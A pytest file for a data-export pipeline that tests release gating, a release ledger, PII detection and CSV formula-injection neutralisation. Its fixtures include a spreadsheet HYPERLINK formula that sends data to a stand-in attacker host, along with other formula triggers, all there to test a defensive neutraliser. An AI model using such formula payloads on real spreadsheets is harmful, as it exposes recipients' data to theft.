"""Export: gated releases, the release ledger, CSV releases and the gate's Data Docs."""

from __future__ import annotations

import csv
import datetime as dt
import json
import shutil
from pathlib import Path

import pytest
from pyspark.sql import functions as F

from expectations.gate import GateFailure, validate_table
from jobs.config.policy import load_policy
from jobs.config.recipients import Recipient
from jobs.errors import GateRefused
from jobs.lake.layout import Lake
from jobs.lake.session import project_path
from jobs.release.csv_safe import neutralise_formula, with_formulas_neutralised
from jobs.release.export import export_release, write_release_data
from jobs.release.ledger import gate_docs_dir, read_ledger
from jobs.release.verify import sha256_of, verify_release
from tests.gold_fixtures import USAGE_SCHEMA, usage_rows
from transforms.contracts import USAGE_BY_TIME_OF_DAY

DATASET = "usage_by_time_of_day"
PLANTED_EMAIL = "planted.export.person@leak-test.example"
BETWEEN = "expect_column_values_to_be_between"
IN_SET = "expect_column_values_to_be_in_set"
NO_PII = "expect_column_values_to_contain_no_pii"
NOT_NULL = "expect_column_values_to_not_be_null"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak=1","click")'


def make_lake(spark, root: Path, rows: list[tuple]) -> Lake:
    lake = Lake(root / "lake")
    spark.createDataFrame(rows, USAGE_SCHEMA).write.format("delta").save(lake.gold(DATASET))
    return lake


def recipient(file_format: str = "parquet") -> Recipient:
    return Recipient(name="acme-research", kind="research", datasets=(DATASET,), format=file_format)


@pytest.fixture(scope="module")
def policy():
    return load_policy(project_path("conf", "privacy-policy.yaml"))


@pytest.fixture(scope="module")
def published(spark, tmp_path_factory, policy):
    root = tmp_path_factory.mktemp("published")
    lake = make_lake(spark, root, usage_rows())
    release = export_release(spark, lake, root / "exports", recipient(), DATASET, policy)
    return lake, root / "exports", release


def ledger_rows(spark, lake: Lake) -> list[dict]:
    return [row.asDict(recursive=True) for row in read_ledger(spark, lake).collect()]


def every_text_under(folder: Path) -> str:
    return "\n".join(p.read_bytes().decode("utf-8", "replace") for p in folder.rglob("*") if p.is_file())


def test_published_release_verifies_and_has_a_published_ledger_row(spark, published):
    lake, _, release = published
    manifest = json.loads((release / "manifest.json").read_text())
    assert verify_release(release) == []
    assert ledger_rows(spark, lake) == [
        {
            "recipient": "acme-research",
            "recipient_kind": "research",
            "dataset": DATASET,
            "release_id": release.name,
            "status": "published",
            "created_at": dt.datetime.fromisoformat(manifest["created_at"]).astimezone().replace(tzinfo=None),
            "source_delta_versions": json.dumps({f"gold/{DATASET}": 0}),
            "row_count": 2,
            "manifest_sha256": sha256_of(release / "manifest.json"),
            "failures": [],
        }
    ]
    recorded = (release / "manifest.json.sha256").read_text().split()[0]
    assert recorded == sha256_of(release / "manifest.json")


def test_ledger_appends_are_delta_transactions(spark, published):
    lake, _, _ = published
    history = spark.sql(f"DESCRIBE HISTORY delta.`{lake.root / '_ledger' / 'releases'}`")
    assert [row.operation for row in history.collect()] == ["WRITE"]
    assert read_ledger(spark, lake).schema["failures"].dataType.simpleString() == (
        "array<struct<column:string,expectation:string>>"
    )


@pytest.mark.parametrize(
    ("changes", "failures"),
    [
        ({"distinct_accounts": 3}, {GateFailure("distinct_accounts", BETWEEN)}),
        ({"distinct_accounts": None}, {GateFailure("distinct_accounts", NOT_NULL)}),
        ({"product": PLANTED_EMAIL}, {GateFailure("product", IN_SET), GateFailure("product", NO_PII)}),
    ],
)
def test_refused_release_leaves_no_folder_and_a_refused_ledger_row(spark, tmp_path, policy, changes, failures):
    lake = make_lake(spark, tmp_path, usage_rows(**changes))
    exports = tmp_path / "exports"
    with pytest.raises(GateRefused) as refusal:
        export_release(spark, lake, exports, recipient(), DATASET, policy)
    assert not (exports / "acme-research" / DATASET).exists()
    assert list((exports / ".staging").iterdir()) == []
    [row] = ledger_rows(spark, lake)
    assert (row["status"], row["row_count"], row["manifest_sha256"]) == ("refused", None, None)
    assert {GateFailure(**failure) for failure in row["failures"]} == failures
    docs = gate_docs_dir(lake, "acme-research", DATASET, row["release_id"])
    assert (docs / "index.html").is_file()
    for text in (repr(row), str(refusal.value), every_text_under(docs)):
        assert PLANTED_EMAIL not in text
    assert next(iter(failures)).column in every_text_under(docs)


def test_data_docs_land_beside_the_ledger_not_in_the_release(published):
    lake, exports, release = published
    docs = gate_docs_dir(lake, "acme-research", DATASET, release.name)
    assert (docs / "index.html").is_file()
    pages = list((docs / "validations").rglob("*.html"))
    assert len(pages) == 1 and "expect_column_values_to_contain_no_pii" in pages[0].read_text()
    assert not any(p.name == "index.html" for p in exports.rglob("*"))


def test_gate_data_docs_name_the_column_but_never_the_planted_email(spark, tmp_path):
    rows = [("the call went fine", 1), (f"write to {PLANTED_EMAIL} after", 2), (None, 3)]
    df = spark.createDataFrame(rows, "comment string, legs int")
    docs = tmp_path / "docs"
    result = validate_table(df, "adhoc.comments", docs_dir=docs)
    assert result.failures == (GateFailure("comment", NO_PII),)
    assert (docs / "index.html").is_file()
    text = every_text_under(docs)
    assert PLANTED_EMAIL not in text and "leak-test.example" not in text
    assert "comment" in text


def test_a_column_named_by_a_pii_value_gets_withheld_docs(spark, tmp_path):
    df = spark.createDataFrame([(1, "fine")], f"n int, `{PLANTED_EMAIL}` string")
    docs = tmp_path / "docs"
    result = validate_table(df, "adhoc.names", docs_dir=docs)
    assert not result.success
    text = every_text_under(docs)
    assert "withheld" in text and "#2" in text
    assert PLANTED_EMAIL not in text


def test_data_docs_folder_must_be_new(spark, tmp_path):
    (tmp_path / "old.html").write_text("an earlier run")
    with pytest.raises(ValueError, match="not empty"):
        validate_table(spark.createDataFrame([(1,)], "n int"), "adhoc", docs_dir=tmp_path)


def test_neutralise_formula_quotes_every_trigger_and_nothing_else(spark):
    cells = [HYPERLINK, "+1 202", "-2", "@SUM(A1)", "\t=cmd", "\r=cmd", "us", "a=b", " =x", "", None]
    df = spark.createDataFrame([(cell,) for cell in cells], "cell string")
    out = [row.cell for row in df.select(neutralise_formula(F.col("cell")).alias("cell")).collect()]
    assert out == ["'" + HYPERLINK, "'+1 202", "'-2", "'@SUM(A1)", "'\t=cmd", "'\r=cmd", "us", "a=b", " =x", "", None]


def test_only_string_columns_are_neutralised(spark):
    df = spark.createDataFrame([("-1", -1, "ok")], "text string, number int, `a.b` string")
    out = with_formulas_neutralised(df)
    assert out.columns == df.columns
    assert tuple(out.first()) == ("'-1", -1, "ok")


def test_csv_file_holds_the_neutralised_cell_in_rfc4180_quoting(spark, tmp_path):
    df = spark.createDataFrame([("b", HYPERLINK, 2), ("a", "plain", 1), ("c", None, 3)], "k string, cell string, n int")
    staged_df = write_release_data(spark, df, tmp_path / "data", "csv", ("k",))
    [part] = list((tmp_path / "data").iterdir())
    assert part.name == "part-00000.csv"
    with part.open(encoding="utf-8", newline="") as handle:
        records = list(csv.reader(handle))
    assert records == [["k", "cell", "n"], ["a", "plain", "1"], ["b", "'" + HYPERLINK, "2"], ["c", "", "3"]]
    assert staged_df.where(F.col("cell") == "'" + HYPERLINK).count() == 1


@pytest.fixture(scope="module")
def csv_releases(spark, tmp_path_factory, policy):
    root = tmp_path_factory.mktemp("csv")
    lake = make_lake(spark, root, usage_rows())
    releases = [export_release(spark, lake, root / "exports", recipient("csv"), DATASET, policy) for _ in range(2)]
    return lake, releases


def test_csv_release_verifies_and_is_deterministic(spark, csv_releases):
    lake, (first, second) = csv_releases
    assert verify_release(first) == [] and verify_release(second) == []
    manifest = json.loads((first / "manifest.json").read_text())
    assert [entry["path"] for entry in manifest["files"]] == ["data/part-00000.csv"]
    assert (first / "data" / "part-00000.csv").read_bytes() == (second / "data" / "part-00000.csv").read_bytes()
    header = (first / "data" / "part-00000.csv").read_text().splitlines()[0]
    assert header.split(",") == list(USAGE_BY_TIME_OF_DAY.columns)
    assert [row["status"] for row in ledger_rows(spark, lake)] == ["published", "published"]


def test_verify_counts_csv_rows(csv_releases, tmp_path):
    _, (release, _) = csv_releases
    copy = tmp_path / release.name
    shutil.copytree(release, copy)
    manifest_path = copy / "manifest.json"
    manifest = json.loads(manifest_path.read_text())
    manifest["row_count"] = 3
    manifest_path.write_text(json.dumps(manifest))
    (copy / "manifest.json.sha256").write_text(f"{sha256_of(manifest_path)}  manifest.json\n")
    assert verify_release(copy) == ["row count 2 but the manifest says 3"]


CARD_IN_DIGITS = "4539148803436467"  # Luhn-valid, looks like any long number
IPV6 = "2001:db8::8a2e:370:7334"


@pytest.mark.parametrize(
    ("changes", "extra_column", "expected"),
    [
        ({}, "comment", ("(table)", "expect_table_columns_to_match_set")),
        ({"product": "fax"}, None, ("product", IN_SET)),
        ({"distinct_accounts": 3}, None, ("distinct_accounts", BETWEEN)),
        ({"product": f"call {PLANTED_EMAIL}"}, None, ("product", NO_PII)),
        ({"access_type": CARD_IN_DIGITS}, None, ("access_type", NO_PII)),
        ({"access_type": IPV6}, None, ("access_type", NO_PII)),
    ],
)
def test_export_command_refuses_with_exit_3_for_the_right_reason(
    spark, tmp_path, capsys, changes, extra_column, expected
):
    from jobs.commands.cli import main

    rows_df = spark.createDataFrame(usage_rows(**changes), USAGE_SCHEMA)
    if extra_column:
        rows_df = rows_df.withColumn(extra_column, F.lit("fine"))
    lake = Lake(tmp_path / "lake")
    rows_df.write.format("delta").save(lake.gold(DATASET))
    recipients = tmp_path / "recipients.yaml"
    recipients.write_text(f"recipients:\n  - {{name: acme-research, kind: research, datasets: [{DATASET}]}}\n")
    code = main(
        ["export", "--lake", str(lake.root), "--exports", str(tmp_path / "exports"), "--recipients", str(recipients)]
    )
    assert code == 3
    assert not (tmp_path / "exports" / "acme-research").exists()
    [row] = ledger_rows(spark, lake)
    failures = {(f["column"] or "(table)", f["expectation"]) for f in row["failures"]}
    assert expected in failures
    printed = capsys.readouterr()
    for value in (PLANTED_EMAIL, CARD_IN_DIGITS, IPV6):
        assert value not in printed.out + printed.err + repr(row)


def test_one_ledger_holds_a_published_and_a_refused_release(spark, tmp_path, policy):
    lake = make_lake(spark, tmp_path, usage_rows())
    exports = tmp_path / "exports"
    export_release(spark, lake, exports, recipient(), DATASET, policy)
    spark.createDataFrame(usage_rows(distinct_accounts=2), USAGE_SCHEMA).write.format("delta").mode("overwrite").save(
        lake.gold(DATASET)
    )
    with pytest.raises(GateRefused):
        export_release(spark, lake, exports, recipient(), DATASET, policy)
    rows = ledger_rows(spark, lake)
    assert sorted(row["status"] for row in rows) == ["published", "refused"]
    published = next(row for row in rows if row["status"] == "published")
    assert (exports / "acme-research" / DATASET / published["release_id"]).is_dir()
    assert len(list((exports / "acme-research" / DATASET).iterdir())) == 1
